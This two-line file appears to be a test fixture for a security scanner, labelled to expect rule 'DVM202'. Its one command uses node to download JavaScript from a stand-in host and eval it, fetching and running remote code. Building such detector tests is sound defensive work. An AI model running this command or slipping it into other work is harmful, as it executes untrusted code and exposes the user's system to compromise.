# expect: DVM202
node -e 'require("https").get("https://x.example.org/a.js", r => r.on("data", d => eval(d.toString())))'
